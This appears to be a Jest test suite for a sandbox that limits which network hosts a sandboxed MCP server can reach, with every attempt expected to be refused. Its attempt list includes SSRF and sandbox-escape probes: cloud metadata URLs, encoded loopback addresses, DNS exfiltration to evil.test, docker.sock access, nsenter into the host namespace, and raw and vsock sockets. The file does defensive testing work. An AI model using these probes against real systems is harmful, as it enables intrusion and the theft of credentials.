import { execFile } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { chownSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { McpConnection } from '../../../../src/mcp/processes/connection/mcp-connection.js';
import { openConnection } from '../../../../src/mcp/processes/connection/open-connection.js';
import type { NetworkRule } from '../../../../src/mcp/processes/network/permitted-hosts-and-ports.js';
import { StderrRing } from '../../../../src/mcp/processes/supervision/stderr-ring.js';
import { aDataDir, aServer, BEST_LEVELS, textOf } from './fake-servers.js';

/**
 * A server of whose hosts one is permitted tries to reach everything else. The permitted one is on this host, so nothing
 * of the tests leaves it.
 */
const data = aDataDir();
const ABSTRACT = `\0awp-network-${process.pid}`;
/** At which a neighbouring server listens, in its own network. */
const NEIGHBOUR = '\0awp-neighbour';
/** Names that are resolved here in place of the host's resolver. */
const NAMES: Record<string, string> = {
  'permitted.test': '127.0.0.1',
  'inward.test': '10.1.2.3',
  'metadata.test': '169.254.169.254',
  'mapped.test': '::ffff:127.0.0.1',
  'below.wild.test': '127.0.0.1',
};

const ORDINARY_USER = 61_234;
const built = new URL('../../../../dist/src/mcp/processes/connection/open-connection.js', import.meta.url)
  .href;
const hostScript = fileURLToPath(new URL('../../../support/mcp-servers/network-host.mjs', import.meta.url));

let web: HttpServer;
let secret: Server;
let udp: UdpSocket;
let unix: Server;
let abstract: Server;
let port = 0;
let secretPort = 0;
let udpPort = 0;
const asked: string[] = [];

const portOf = (server: { address(): unknown }) => (server.address() as AddressInfo).port;
const listening = <T extends Server | HttpServer>(server: T, where: number | string): Promise<T> =>
  new Promise((resolve) => server.listen(where as number, '::', () => resolve(server)));

beforeAll(async () => {
  web = await listening(
    createHttpServer((request, response) => {
      if (request.url === '/to-secret')
        return response.writeHead(302, { location: `http://127.0.0.1:${secretPort}/` }).end();
      if (request.url === '/to-name') return response.writeHead(302, { location: 'http://evil.test/' }).end();
      response.end('permitted');
    }),
    0,
  );
  const answering = () =>
    createServer((socket) => void socket.on('error', () => undefined).end('the secret'));
  secret = await listening(answering(), 0);
  [port, secretPort] = [portOf(web), portOf(secret)];
  unix = answering().listen(join(data.path, 'host.sock'));
  abstract = answering().listen(ABSTRACT);
  udp = createSocket('udp4');
  udp.on('message', (_, from) => udp.send('the secret', from.port, from.address));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  udpPort = udp.address().port;
});
afterAll(() => {
  for (const server of [web, secret, unix, abstract, udp]) server.close();
  data.drop();
});

const resolve = async (name: string): Promise<string[]> => {
  asked.push(name);
  const address = NAMES[name];
  if (address === undefined) throw Object.assign(new Error(`no such name: ${name}`), { code: 'ENOTFOUND' });
  return [address];
};

describe.each(BEST_LEVELS)('at the level %s', (sandbox) => {
  const opened: McpConnection[] = [];
  const ring = new StderrRing();
  afterAll(() => Promise.all(opened.map((connection) => connection.close())));

  async function open(network: NetworkRule | undefined): Promise<McpConnection> {
    const allowedHosts = ['permitted.test', 'below.wild.test', 'localhost'].map((host) => `${host}:${port}`);
    // The operator allows more than the rule of the server names.
    allowedHosts.push(`permitted.test:${secretPort}`);
    const connection = await openConnection(aServer(data.path, 'network-attempts.mjs', { network }), {
      ...{ sandbox, serviceDataDir: data.path, startTimeoutMs: 30_000, allowedHosts, resolve, ring },
    });
    opened.push(connection);
    return connection;
  }
  const attempt = async (connection: McpConnection, name: string, given: object): Promise<string> =>
    textOf(await connection.request('tools/call', { name, arguments: given }));

  describe('a server with named hosts', () => {
    let server: McpConnection;
    beforeAll(async () => {
      const host = (name: string, at = port) => ({ host: name, port: at });
      const inner = ['inward.test', 'metadata.test', 'mapped.test'].map((name) => host(name, 443));
      // A neighbour with a proxy at its port 1080, through which it may reach every host.
      const neighbour = await open({ kind: 'any' });
      for (const where of [{ path: NEIGHBOUR }, { port: 8_123 }])
        expect(await attempt(neighbour, 'listen', where)).toBe('open');
      expect(await attempt(neighbour, 'unix', { path: NEIGHBOUR })).toMatch(/^open the secret/);
      // The rule names more than the operator allows: a name that resolves inward, at a port that is open.
      inner.push(host('mapped.test', secretPort));
      server = await open({ kind: 'hosts', hosts: [host('permitted.test'), host('*.wild.test'), ...inner] });
    });

    it('reaches them by name, with a client that knows no proxy, and has no other interface', async () => {
      const url = `http://permitted.test:${port}/`;
      expect(await attempt(server, 'fetch', { url })).toBe('open 200 permitted');
      expect(await attempt(server, 'fetch', { url: `http://below.wild.test:${port}/` })).toBe(
        'open 200 permitted',
      );
      expect(await attempt(server, 'tcp', { host: 'permitted.test', port })).toMatch(/^open HTTP/);
      expect(await attempt(server, 'interfaces', {})).toBe('lo');
    });

    it('reaches nothing else: 50 attempts', async () => {
      const attempts = attemptsOut();
      expect(attempts.length).toBeGreaterThanOrEqual(50);
      const outcomes: string[] = [];
      for (const [tool, given] of attempts)
        outcomes.push(`${tool} ${JSON.stringify(given)} ${await attempt(server, tool, given)}`);
      expect(outcomes.filter((outcome) => !outcome.includes(' refused: '))).toEqual([]);
    }, 180_000);

    const asRoot = process.getuid?.() === 0 ? it : it.skip;
    asRoot(
      'reaches nothing else when the service runs as an ordinary user',
      async () => {
        const folder = aDataDir();
        chownSync(folder.path, ORDINARY_USER, ORDINARY_USER);
        const permitted = { host: '127.0.0.1', port };
        const network = { kind: 'hosts' as const, hosts: [permitted] };
        const options = {
          sandbox,
          serviceDataDir: folder.path,
          startTimeoutMs: 30_000,
          allowedHosts: [`127.0.0.1:${port}`],
        };
        const given = [
          options,
          aServer(folder.path, 'network-attempts.mjs', { network }),
          [['tcp', permitted], ...attemptsOut()],
          aServer(folder.path, 'network-attempts.mjs', { network: { kind: 'any' } }),
        ];
        const identity = [`--reuid=${ORDINARY_USER}`, `--regid=${ORDINARY_USER}`, '--clear-groups', '--'];
        const { stdout } = await promisify(execFile)('setpriv', [
          ...identity,
          process.execPath,
          hostScript,
          built,
          ...given.map((value) => JSON.stringify(value)),
        ]);
        folder.drop();
        const [control, ...outcomes] = JSON.parse(stdout) as string[];
        expect(control).toContain(' open HTTP');
        expect(outcomes.filter((outcome) => !outcome.includes(' refused: '))).toEqual([]);
      },
      180_000,
    );

    it('asks no resolver for a name that is not permitted', async () => {
      asked.length = 0;
      await attempt(server, 'dns', { name: 'a-secret-in-a-name.evil.test' });
      await attempt(server, 'fetch', { url: 'http://a-secret-in-a-name.evil.test/' });
      expect(asked).toEqual([]);
    });

    it('finds refused hosts in its log and in the error of its tool', async () => {
      const result = await server.request('tools/call', {
        name: 'failing',
        arguments: { url: 'https://named-in-the-error.test/' },
      });
      expect(JSON.stringify(result.content)).toContain('refused: named-in-the-error.test');
      const log = ring.lines([]).map(({ text }) => text);
      expect(log).toContainEqual(expect.stringMatching(/^\[network\] refused named-in-the-error\.test: /));
    });

    it('gets no variable and no descriptor of the service', async () => {
      expect(await attempt(server, 'environment', {})).toBe('HOME LANG PATH TMPDIR');
      const listed = await attempt(server, 'run', { command: 'ls', args: ['/proc/self/fd'] });
      // The shell of the tests may pass descriptors on to every process, so an ordinary child is the measure.
      const { stdout } = await promisify(execFile)('ls', ['/proc/self/fd']);
      const countIn = (text: string) =>
        text
          .replace(/^open /, '')
          .trim()
          .split(/\s+/).length;
      expect(countIn(listed)).toBeLessThanOrEqual(countIn(stdout));
    });
  });

  it('a server without network reaches nothing, by no name', async () => {
    const server = await open({ kind: 'none' });
    expect(await attempt(server, 'fetch', { url: `http://permitted.test:${port}/` })).toMatch(/^refused/);
    expect(await attempt(server, 'tcp', { host: '127.0.0.1', port })).toBe('refused: ECONNREFUSED');
    expect(await attempt(server, 'interfaces', {})).toBe('lo');
  });

  it('a server with any host reaches other ports by the proxy, and private addresses only where they are allowed', async () => {
    const server = await open({ kind: 'any' });
    const proxied = { host: '127.0.0.1', port: 1080 };
    expect(await attempt(server, 'tcp', proxied)).toMatch(/^refused/);
    const through = (target: string) =>
      attempt(server, 'run', {
        command: '/usr/bin/curl',
        args: ['-sS', '--max-time', '5', '--proxy', 'socks5h://127.0.0.1:1080', target],
      });
    expect(await through(`http://permitted.test:${port}/`)).toBe('open permitted');
    expect(await through(`http://inward.test:${port}/`)).toMatch(/^refused/);
    expect(await through(`http://127.0.0.1:${secretPort}/`)).toMatch(/^refused/);
    expect(await attempt(server, 'environment', {})).toContain('HTTPS_PROXY');
  });
});

function attemptsOut(): [string, object][] {
  const tcp = (host: string, at: number): [string, object] => ['tcp', { host, port: at }];
  const addresses = ['127.0.0.1', '127.0.0.2', '127.64.0.1', '0.0.0.0', '::1', '::ffff:127.0.0.1'];
  const literals = ['2130706433', '0x7f000001', '017700000001', '127.1', 'localhost', 'ip6-localhost'];
  const outside = ['1.1.1.1', '8.8.8.8', '93.184.216.34', '2606:4700:4700::1111', '2001:4860:4860::8888'];
  const inside = [
    '10.0.0.1',
    '172.16.0.1',
    '192.168.0.1',
    '100.64.0.1',
    'fe80::1',
    'fd00::1',
    '64:ff9b::7f00:1',
  ];
  const metadata = ['169.254.169.254', '168.63.129.16', '100.100.100.200', 'fd00:ec2::254'];
  const names = [
    'evil.test',
    'wild.test',
    'xpermitted.test',
    'permitted.test.evil.test',
    'metadata.google.internal',
  ];
  const inward = ['inward.test', 'metadata.test', 'mapped.test'];
  const nameServer = { name: 'x.evil.test', server: '8.8.8.8' };
  return [
    ...[...addresses, ...literals].map((host) => tcp(host, secretPort)),
    ...[...outside, ...inside, ...metadata].map((host) => tcp(host, 443)),
    ...names.map((host) => tcp(host, port)),
    ...inward.map((host) => tcp(host, 443)),
    tcp('permitted.test', secretPort),
    tcp('mapped.test', secretPort),
    tcp('permitted.test', 443),
    tcp('127.0.0.1', 1080),
    ['fetch', { url: `http://permitted.test:${port}/to-secret` }],
    ['fetch', { url: `http://permitted.test:${port}/to-name` }],
    ['fetch', { url: 'http://169.254.169.254/latest/meta-data/' }],
    ['udp', { host: '127.0.0.1', port: udpPort }],
    ['udp', { host: '1.1.1.1', port: 53 }],
    ['udp', { host: '224.0.0.251', port: 5353 }],
    ['udp', { host: '2606:4700:4700::1111', port: 53, family: 6 }],
    ['dns', nameServer],
    ['dns', { name: 'evil.test' }],
    ['dns', { name: 'evil.test', type: 'TXT' }],
    ['unix', { path: ABSTRACT }],
    ['unix', { path: NEIGHBOUR }],
    tcp('127.0.0.1', 8_123),
    ['unix', { path: join(data.path, 'host.sock') }],
    ['unix', { path: '/run/docker.sock' }],
    ['run', { command: '/usr/bin/nsenter', args: ['--net=/proc/1/ns/net', 'true', '--', 'cat', '/nothing'] }],
    ['run', { command: '/usr/bin/perl', args: ['-e', 'socket(S, 17, 3, 0) or die "refused: $!"'] }],
    // AF_VSOCK, by which a virtual machine reaches its host, is in no network namespace.
    ['run', { command: '/usr/bin/perl', args: ['-e', 'socket(S, 40, 1, 0) or die "refused: $!"'] }],
  ];
}
